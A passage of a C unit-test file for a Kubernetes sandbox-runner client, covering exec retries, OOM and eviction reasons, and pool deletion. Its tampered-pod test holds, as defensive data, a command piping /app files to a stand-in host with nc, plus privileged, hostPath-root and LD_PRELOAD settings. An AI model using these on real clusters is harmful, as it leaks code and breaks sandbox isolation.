	 * object, and the caller's variables are in the spec. */
	job_req = fake_request_at(1);
	job = cJSON_Parse(job_req->body);
	cmd = at(job, "spec.template.spec.containers.0.command");
	assert_string_equal(cJSON_GetArrayItem(cmd, 2)->valuestring, GKX_PARK_COMMAND);
	assert_json_string(job, "spec.template.spec.volumes.0.name", "code");
	assert_non_null(at(job, "spec.template.spec.volumes.0.emptyDir"));
	assert_null(strstr(job_req->body, "configMap"));
	assert_true(
	        cJSON_IsFalse(at(job, "spec.template.spec.containers.0.volumeMounts.0.readOnly")));
	assert_non_null(strstr(job_req->body, "{\"name\":\"A\",\"value\":\"1\"}"));
	assert_null(strstr(job_req->body, "print(1)"));
	cJSON_Delete(job);
	/* The input: the command and the file, no env of its own. */
	payload = fake_sent_at(0)->data + 1;
	assert_non_null(strstr(payload, "A python3\nP job.py\n"));
	assert_non_null(strstr(payload, "\nT job.py\nM print(1)\n"));
	assert_non_null(strstr(payload, "\nJ\n"));
	assert_null(strstr(payload, "A env\n"));
	gkx_run_free(run);
}

/* --network=none with the code over the exec: the policy is made before
 * anything is sent, and no ConfigMap at all (the kubelet would have to
 * fetch it, a second late when the node authorizer does not know it yet). */
static void test_cold_exec_network_none(void **state)
{
	fixture *f = *state;
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	gkx_run *run = NULL;
	gkx_error err;
	size_t i, policy_at = 0, exec_at = 0;

	o.script_name = "job.py";
	o.script = "print(1)";
	o.script_len = 8;
	o.network = "none";
	o.on_output = capture;
	o.output_userdata = &f->out;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	expect_cold_start(f);
	fake_expect("POST", "/networkpolicies", 201, "{}");
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect_open("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	fake_expect("DELETE", "/networkpolicies/", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_string_equal(f->out.ptr, "1\ne\n");
	for (i = 0; i < fake_count(); i++) {
		const char *url = fake_request_at(i)->url;
		assert_null(strstr(url, "/configmaps"));
		if (!policy_at && strstr(url, "/networkpolicies"))
			policy_at = i + 1;
		if (!exec_at && strstr(url, "/exec?"))
			exec_at = i + 1;
	}
	assert_true(policy_at > 0 && exec_at > policy_at);
	assert_string_equal(fake_request_at(policy_at - 1)->method, "POST");
	gkx_run_free(run);
}

/* An exec whose upgrade is never answered is dropped after 5 s and made
 * again, not waited for until the deadline. */
static void test_cold_exec_that_hangs_is_tried_again(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	gkx_run_timings t;

	expect_cold_start(f);
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect_open("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", NULL, 0, not_yet, 1, 0, 0);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_string_equal(f->out.ptr, "1\n");
	gkx_run_get_timings(run, &t);
	assert_true(t.started >= 5.0 && t.started < 7.0);
	gkx_run_free(run);
}

/* A Job whose container runs the script itself (pod "q"): its log. */
static void expect_self_run(void)
{
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u2\"}}");
	fake_expect("POST", "/configmaps", 201, "{}");
	fake_expect("GET", "/pods?labelSelector=job-name", 200,
	            "{\"type\":\"ADDED\",\"object\":{\"metadata\":{\"name\":\"q\"},"
	            "\"status\":{\"containerStatuses\":[{\"state\":{\"terminated\":{"
	            "\"exitCode\":0}}}]}}}\n");
	fake_expect("GET", "/pods/q/log", 200, "2026-11-30T06:29:09Z 1\n");
	fake_expect("DELETE", "/jobs/", 200, "{}");
	fake_expect("DELETE", "/configmaps/", 200, "{}");
}

/* A caller who may run Jobs but not exec into pods: the Job goes, and
 * the run starts over as a Job whose container runs the script itself;
 * later runs on the client go that way at once. */
static void test_cold_without_exec_right(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	const char *first, *second;
	static const fake_message refusal[] = {
		{ 0,
		  "{\"kind\":\"Status\",\"status\":\"Failure\",\"message\":\"pods \\\"p\\\" is "
		  "forbidden: User \\\"r\\\" cannot get resource \\\"pods/exec\\\"\","
		  "\"reason\":\"Forbidden\",\"code\":403}",
		  0 },
	};
	size_t i;

	expect_cold_start(f);
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect("GET", "/events?", 403, EVENTS_FORBIDDEN); /* then it polls */
	fake_expect_ws("/pods/p/exec?", NULL, 403, refusal, 1, 0, 0);
	expect_exec_cleanup();
	expect_self_run();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_int_equal(gkx_run_exit_code(run), 0);
	assert_string_equal(f->out.ptr, "1\n");
	/* Two Jobs of two names; the second runs the script itself, from
	 * its ConfigMap. */
	first = second = NULL;
	for (i = 0; i < fake_count(); i++) {
		const fake_request *q = fake_request_at(i);
		if (!first && !strcmp(q->method, "DELETE") && strstr(q->url, "/jobs/"))
			first = strstr(q->url, "sandbox-run-");
		else if (first && !strcmp(q->method, "POST") && strstr(q->url, "/jobs"))
			second = q->body;
	}
	assert_non_null(first);
	assert_non_null(second);
	assert_null(strstr(second, first));
	assert_non_null(strstr(second, "/app/job.py"));
	assert_null(strstr(second, GKX_PARK_COMMAND));
	assert_non_null(strstr(second, "\"configMap\""));
	gkx_run_free(run);

	/* The client remembers: no exec tried for the next run. */
	fake_reset();
	gkx__buf_free(&f->out);
	run = cold_run(f);
	expect_claim(f, "{\"kind\":\"PodList\",\"items\":[]}");
	expect_self_run();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_string_equal(f->out.ptr, "1\n");
	gkx_run_free(run);
}

/* The process died of SIGKILL: the pod status, a moment later, says the
 * memory limit did it. */
#define EXEC_STATUS(n)                                                                 \
	"\3{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated "  \
	"with non-zero exit code: exit status " n "\",\"reason\":\"NonZeroExitCode\"," \
	"\"details\":{\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"" n "\"}]}}"
static void cold_exec_oom_with(void **state, const char *status, size_t status_len)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	const fake_message killed[] = {
		{ GKX_WS_BINARY, status, status_len },
		{ GKX_WS_CLOSE, "\3\350", 2 },
	};
	static const char oom[] =
	        "{\"type\":\"MODIFIED\",\"object\":{\"metadata\":{\"name\":\"p\"" OWNED_BY(
	                "u") "},\"spec\":{"
	                     "\"nodeName\":\"n1\"},\"status\":{\"containerStatuses\":[{\"state\":{"
	                     "\"terminated\":{\"exitCode\":137,\"reason\":\"OOMKilled\"}}}]}}}\n";

	expect_cold_start(f);
	fake_expect("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, killed, 2, 1, 0);
	fake_expect_delayed("GET", "/pods?labelSelector=job-name", 200, oom, 6);
	fake_expect("DELETE", "/jobs/", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_int_equal(gkx_run_exit_code(run), 137);
	assert_string_equal(gkx_run_reason(run), "OOMKilled");
	gkx_run_free(run);
}

static void test_cold_exec_oom(void **state)
{
	cold_exec_oom_with(state, EXEC_STATUS("137"), sizeof(EXEC_STATUS("137")) - 1);
}

/* Under gVisor an exec into a sandbox the OOM killer ended answered 128
 * ("WaitPID failed: EOF"): the container's own 137 is the run's. */
static void test_cold_exec_oom_status_128(void **state)
{
	cold_exec_oom_with(state, EXEC_STATUS("128"), sizeof(EXEC_STATUS("128")) - 1);
}

/* The claimed pod's exec upgrade is never answered: after 5 s the
 * sandbox is given up (its Job deleted), the run goes on as a Job, says
 * so, and ends with the script's own status; not DeadlineExceeded at the
 * end of the run's time with the script never started. */
static void test_warm_exec_unanswered_goes_cold(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	gkx_run_timings t;
	size_t i, gave_up_at = 0, job_at = 0;

	run->timeout_s = 15;
	gave_up[0] = '\0';
	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", NULL, 0, not_yet, 1, 0, 0);
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa?", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	fake_expect("POST", "/jobs", 201, "{\"kind\":\"Job\",\"metadata\":{\"uid\":\"u\"}}");
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect_open("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_false(gkx_run_warm(run));
	assert_int_equal(gkx_run_exit_code(run), 0);
	assert_string_equal(gkx_run_reason(run), "Completed");
	assert_string_equal(f->out.ptr, "1\n");
	assert_non_null(strstr(gave_up, "gave up the parked sandbox sandbox-pool-aaaaaaaa-x1"));
	assert_non_null(strstr(gave_up, "no answer within 5 s"));
	/* The parked pod's Job went before the run's own was made. */
	for (i = 0; i < fake_count(); i++) {
		const fake_request *q = fake_request_at(i);
		if (!strcmp(q->method, "DELETE") && strstr(q->url, "/jobs/sandbox-pool-"))
			gave_up_at = i + 1;
		if (!strcmp(q->method, "POST") && strstr(q->url, "/jobs"))
			job_at = i + 1;
	}
	assert_true(gave_up_at > 0 && job_at > gave_up_at);
	gkx_run_get_timings(run, &t);
	assert_true(t.started >= 5.0 && t.started < 8.0);
	gkx_run_free(run);
}

/* The same with --keep: the given-up sandbox never ran the code, so it is
 * deleted all the same (keep is for the run's own Job); it used to stay
 * claimed by nobody until its deadline. The Job after it is refused here,
 * which ends the test early. */
static void test_warm_given_up_with_keep_is_deleted(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	size_t i, deleted = 0;

	run->timeout_s = 15;
	run->keep = 1;
	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", NULL, 0, not_yet, 1, 0, 0);
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa?", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}");
	assert_true(gkx_run_execute(run, &err) < 0);
	for (i = 0; i < fake_count(); i++) {
		const fake_request *q = fake_request_at(i);
		if (!strcmp(q->method, "DELETE") && strstr(q->url, "/jobs/sandbox-pool-aaaaaaaa"))
			deleted++;
	}
	assert_int_equal(deleted, 1);
	gkx_run_free(run);
}

#define KILL9                                                                                \
	"\3{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated with "   \
	"non-zero exit code: exit status 137\",\"reason\":\"NonZeroExitCode\",\"details\":{" \
	"\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"137\"}]}}"
static const fake_message warm_killed[] = {
	{ GKX_WS_BINARY, "\1one\n", 5 },
	{ GKX_WS_BINARY, KILL9, sizeof(KILL9) - 1 },
	{ GKX_WS_CLOSE, "\3\350", 2 },
};
/* A parked pod as a GET gives it, with STATUS and METADATA added. */
#define PARKED_AS(meta, status)                                                    \
	"{\"metadata\":{\"name\":\"sandbox-pool-aaaaaaaa-x1\"" meta "},\"spec\":{" \
	"\"nodeName\":\"n1\"},\"status\":{\"phase\":\"Running\"" status            \
	",\"containerStatuses\":[{"                                                \
	"\"state\":{\"running\":{}}}]}}"

/* Issue 23: a parked pod deleted while a run used it (here by the garbage
 * collector after `pool delete`): the script is killed (137), and the
 * reason says the pod was deleted, not "Error". */
static void test_warm_pod_deleted_under_the_run(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "import time; print('one'); time.sleep(8)\n");
	gkx_error err;

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", "v4.channel.k8s.io", 101,
	               warm_killed, 3, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 200,
	            PARKED_AS(",\"deletionTimestamp\":\"2026-11-30T06:00:09Z\"", ""));
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_int_equal(gkx_run_exit_code(run), 137);
	assert_string_equal(gkx_run_reason(run), "PodDeleted");
	assert_string_equal(f->out.ptr, "one\n");
	gkx_run_free(run);
}

/* The same, but the pod is gone already (404), and the stream was cut
 * with no status: an error that names the pod and says what happened. */
static void test_warm_pod_gone_stream_cut(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "import time; time.sleep(8)\n");
	gkx_error err;
	static const fake_message cut[] = { { GKX_WS_BINARY, "\1one\n", 5 } };

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", "v4.channel.k8s.io", 101, cut, 1, 1,
	               0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 404,
	            "{\"kind\":\"Status\",\"reason\":\"NotFound\",\"code\":404}");
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	assert_true(gkx_run_execute(run, &err) < 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_string_equal(gkx_run_reason(run), "PodDeleted");
	assert_non_null(
	        strstr(err.message, "sandbox-pool-aaaaaaaa-x1 was deleted while the script ran"));
	gkx_run_free(run);
}

/* Killed for memory: the pod status, a read or two later, says so, as on
 * the cold path (it was "Error"). */
static void test_warm_oom(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "x = ' ' * 2**40\n");
	gkx_error err;
	static const char oom[] =
	        "{\"metadata\":{\"name\":\"sandbox-pool-aaaaaaaa-x1\"},\"status\":{\"phase\":"
	        "\"Failed\",\"containerStatuses\":[{\"state\":{\"terminated\":{\"exitCode\":137,"
	        "\"reason\":\"OOMKilled\"}}}]}}";

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", "v4.channel.k8s.io", 101,
	               warm_killed, 3, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 200, PARKED_AS("", ""));
	fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 200, oom);
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_int_equal(gkx_run_exit_code(run), 137);
	assert_string_equal(gkx_run_reason(run), "OOMKilled");
	gkx_run_free(run);
}

/* Evicted by the kubelet: the reason, and the kubelet's own message. */
static void test_warm_evicted(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "open('/tmp/x','w').write(' ' * 2**30)\n");
	gkx_error err;
	static const fake_message cut[] = { { GKX_WS_BINARY, "\1one\n", 5 } };

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", "v4.channel.k8s.io", 101, cut, 1, 1,
	               0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	/* As the kubelet leaves an evicted pod: Failed, no container status,
	 * and a message that ends with a space. */
	fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 200,
	            "{\"metadata\":{\"name\":\"sandbox-pool-aaaaaaaa-x1\"},\"spec\":{"
	            "\"nodeName\":\"n1\"},\"status\":{\"phase\":\"Failed\",\"reason\":"
	            "\"Evicted\",\"message\":\"Pod ephemeral local storage usage exceeds the "
	            "total limit of containers 128Mi. \"}}");
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_int_equal(gkx_run_exit_code(run), 137);
	assert_string_equal(gkx_run_reason(run), "Evicted");
	assert_string_equal(gkx_run_message(run), "Pod ephemeral local storage usage exceeds the "
	                                          "total limit of containers 128Mi.");
	gkx_run_free(run);
}

/* The stream is cut after the code was sent and the pod is fine: nothing
 * is tried again (the script may have run), the reason says the
 * connection was lost, and the pod's Job is deleted. */
static void test_warm_stream_cut(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "import time; time.sleep(8)\n");
	gkx_error err;
	static const fake_message cut[] = { { GKX_WS_BINARY, "\1one\n", 5 } };
	size_t i, execs = 0;

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", "v4.channel.k8s.io", 101, cut, 1, 1,
	               0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	for (i = 0; i < 6; i++)
		fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 200, PARKED_AS("", ""));
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	assert_true(gkx_run_execute(run, &err) < 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_string_equal(gkx_run_reason(run), "ConnectionLost");
	assert_non_null(strstr(err.message, "the connection to the sandbox broke after its code "
	                                    "was sent"));
	for (i = 0; i < fake_count(); i++)
		execs += strstr(fake_request_at(i)->url, "/exec?") != NULL;
	assert_int_equal(execs, 1);
	assert_string_equal(fake_request_at(fake_count() - 1)->method, "DELETE");
	gkx_run_free(run);
}

/* The exec was cut when the kubelet evicted the pod (its /tmp past the
 * limit): the pod status, a moment later, says Evicted and why. */
static void test_cold_exec_evicted(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	char *evicted = recorded_pod_event("evicted-emptydir-memory.json", "MODIFIED", "p", "u");
	static const fake_message cut[] = {
		{ GKX_WS_BINARY, "\1writing\n", 9 },
	};

	expect_cold_start(f);
	fake_expect("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, cut, 1, 1, 0);
	fake_expect_delayed("GET", "/pods?labelSelector=job-name", 200, evicted, 6);
	fake_expect("DELETE", "/jobs/", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(gkx_run_exit_code(run), 137);
	assert_string_equal(gkx_run_reason(run), "Evicted");
	assert_non_null(strstr(gkx_run_message(run), "EmptyDir volume \"tmp\""));
	assert_string_equal(f->out.ptr, "writing\n");
	gkx_run_free(run);
	cJSON_free(evicted);
}

/* A runner without pods/exec: the API server refuses the upgrade. The
 * error says which right is missing, and the claimed pod is deleted. */
static void test_exec_forbidden(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print(1)\n");
	gkx_error err;
	static const fake_message refusal[] = {
		{ 0,
		  "{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\",\"message\":"
		  "\"pods "
		  "\\\"sandbox-pool-aaaaaaaa-x1\\\" is forbidden: User \\\"r\\\" cannot get "
		  "resource "
		  "\\\"pods/exec\\\" in API group \\\"\\\" in the namespace \\\"sandbox\\\"\","
		  "\"reason\":\"Forbidden\",\"code\":403}",
		  0 },
	};

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/exec?", NULL, 403, refusal, 1, 0, 0);
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	fake_expect("DELETE", "/pods/sandbox-pool-aaaaaaaa-x1?gracePeriodSeconds=0", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), GKX_EFORBIDDEN);
	assert_non_null(strstr(err.message, "cannot get resource \"pods/exec\""));
	assert_non_null(strstr(err.message, "a warm run needs"));
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_non_null(
	        strstr(fake_request_at(fake_count() - 2)->url, "/jobs/sandbox-pool-aaaaaaaa"));
	assert_non_null(
	        strstr(fake_request_at(fake_count() - 1)->url, "/pods/sandbox-pool-aaaaaaaa-x1"));
	gkx_run_free(run);
}

/* pool delete: each parked pod is taken out of the pool first (a 409
 * from a status update: read again, patched again), so that no run can
 * claim it while its Job goes; a pod a run holds is left to that run. */
static void test_pool_delete_retires_first(void **state)
{
	fixture *f = *state;
	gkx_pool_options po = GKX_POOL_OPTIONS_INIT;
	gkx_error err;
	unsigned n = 0;
	size_t i;
	const fake_request *patch;
#define POD_IN(name, job, state, rv)                                                        \
	"{\"metadata\":{\"name\":\"" name "\",\"resourceVersion\":\"" rv                    \
	"\",\"labels\":{\"" GKX_LABEL_RUN "\":\"" job "\",\"" GKX_LABEL_STATE "\":\"" state \
	"\"}}}"

	fake_expect("GET", "/pods?labelSelector=", 200,
	            "{\"items\":[" POD_IN("a-1", "a", "parked",
	                                  "10") "," POD_IN("b-1", "b", "claimed", "11") "]}");
	fake_expect("PATCH", "/pods/a-1", 409, "{\"kind\":\"Status\",\"code\":409}");
	fake_expect("GET", "/pods/a-1", 200, POD_IN("a-1", "a", "parked", "12"));
	fake_expect("PATCH", "/pods/a-1", 200, "{}");
	fake_expect("GET", "/jobs?labelSelector=", 200,
	            "{\"items\":[{\"metadata\":{\"name\":\"a\"}},{\"metadata\":{\"name\":"
	            "\"b\"}},{\"metadata\":{\"name\":\"c\"}}]}");
	fake_expect("DELETE", "/jobs/a?", 200, "{}");
	fake_expect("DELETE", "/jobs/c?", 200, "{}");
	assert_int_equal(gkx_pool_delete(f->client, &po, 0, &n, &err), 0);
	assert_int_equal(n, 2);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	patch = fake_request_at(3);
	assert_non_null(strstr(patch->body, "\"resourceVersion\":\"12\""));
	assert_non_null(strstr(patch->body, "\"" GKX_LABEL_STATE "\":\"retired\""));
	for (i = 0; i < fake_count(); i++)
		assert_null(strstr(fake_request_at(i)->url, "/jobs/b"));

	/* A run claimed the pod between the list and the patch: its Job stays. */
	fake_reset();
	fake_expect("GET", "/pods?labelSelector=", 200,
	            "{\"items\":[" POD_IN("a-1", "a", "parked", "10") "]}");
	fake_expect("PATCH", "/pods/a-1", 409, "{\"kind\":\"Status\",\"code\":409}");
	fake_expect("GET", "/pods/a-1", 200, POD_IN("a-1", "a", "claimed", "13"));
	fake_expect("GET", "/jobs?labelSelector=", 200,
	            "{\"items\":[{\"metadata\":{\"name\":\"a\"}}]}");
	assert_int_equal(gkx_pool_delete(f->client, &po, 0, &n, &err), 0);
	assert_int_equal(n, 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);

	/* A user who may not patch pods still deletes the Jobs, as before. */
	fake_reset();
	fake_expect("GET", "/pods?labelSelector=", 200,
	            "{\"items\":[" POD_IN("a-1", "a", "parked", "10") "]}");
	fake_expect("PATCH", "/pods/a-1", 403, "{\"kind\":\"Status\",\"code\":403}");
	fake_expect("GET", "/jobs?labelSelector=", 200,
	            "{\"items\":[{\"metadata\":{\"name\":\"a\"}}]}");
	fake_expect("DELETE", "/jobs/a?", 200, "{}");
	assert_int_equal(gkx_pool_delete(f->client, &po, 0, &n, &err), 0);
	assert_int_equal(n, 1);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
#undef POD_IN
}

/* A pod with our labels but not our hardening is never used: each
 * change below, alone, to a pod our own manifest made, refuses it. */
static void test_planted_pod_is_refused(void **state)
{
	static const struct {
		const char *object, *key, *value, *why;
	} planted[] = {
		{ "spec.containers.0.securityContext", "privileged", "true", "privileged" },
		{ "spec", "runtimeClassName", "\"runc\"", "another RuntimeClass" },
		{ "spec.containers.0", "image", "\"evil:1\"", "another image" },
		{ "spec.containers.0.securityContext", "readOnlyRootFilesystem", "false",
		  "writable root" },
		{ "spec", "automountServiceAccountToken", "true", "a service-account token" },
		{ "spec", "hostPID", "true", "host namespaces" },
		{ "spec", "volumes", "[{\"name\":\"code\",\"hostPath\":{\"path\":\"/\"}}]",
		  "other volumes" },
		{ "spec.containers.0.securityContext", "seccompProfile",
		  "{\"type\":\"Unconfined\"}", "no seccomp profile" },
		{ "spec.securityContext", "seccompProfile", "{\"type\":\"Unconfined\"}",
		  "no seccomp profile" },
		{ "spec.containers.0", "command",
		  "[\"/bin/sh\",\"-c\",\"while sleep 1; do cat /app/* | nc evil 80; done\"]",
		  "another command" },
		{ "spec.containers.0", "args", "[\"x\"]", "another command" },
		{ "spec.containers.0", "lifecycle",
		  "{\"postStart\":{\"exec\":{\"command\":[\"true\"]}}}", "hooks or envFrom" },
		{ "spec.containers.0", "envFrom", "[{\"configMapRef\":{\"name\":\"x\"}}]",
		  "hooks or envFrom" },
		{ "spec.containers.0", "env", "[{\"name\":\"LD_PRELOAD\",\"value\":\"/x.so\"}]",
		  "another environment" },
		{ "spec.containers.0", "env", "[{\"name\":\"HOME\",\"value\":\"/app\"}]",
		  "another environment" },
		{ "metadata.labels", GKX_LABEL_POOL, "\"0123456789abcdef\"", "another pool" },
	};
	fixture *f = *state;
	gkx__pool p;
	gkx_error err;
	char why[64];
	size_t i;

	assert_int_equal(gkx__pool_init(&p, "sandbox", NULL, NULL, NULL, NULL, 0, 0, &err), 0);
	for (i = 0; i < sizeof(planted) / sizeof(planted[0]); i++) {
		cJSON *list = cJSON_Parse(f->pod_json),
		      *pod = cJSON_GetArrayItem(at(list, "items"), 0);
		cJSON *obj = (cJSON *)at(pod, planted[i].object),
		      *v = cJSON_Parse(planted[i].value);

		assert_true(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
		assert_non_null(obj);
		assert_non_null(v);
		if (cJSON_HasObjectItem(obj, planted[i].key))
			cJSON_ReplaceItemInObject(obj, planted[i].key, v);
		else
			cJSON_AddItemToObject(obj, planted[i].key, v);
		assert_false(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
		assert_string_equal(why, planted[i].why);
		cJSON_Delete(list);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_accept_key),
		cmocka_unit_test(test_sha1),
		cmocka_unit_test(test_encode_masks),
		cmocka_unit_test(test_decode),
		cmocka_unit_test(test_decode_refuses),
		cmocka_unit_test(test_http1_head),
		cmocka_unit_test(test_exec_status),
		cmocka_unit_test_setup_teardown(test_warm_v4, setup, teardown),
		cmocka_unit_test_setup_teardown(test_warm_v5, setup, teardown),
		cmocka_unit_test_setup_teardown(test_warm_result_keeps_every_byte, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_race, setup, teardown),
		cmocka_unit_test_setup_teardown(test_write_on_ended_stream, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_answer_lost_but_landed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_answer_lost_not_landed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_no_pool_goes_cold, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_without_exec_right, setup, teardown),
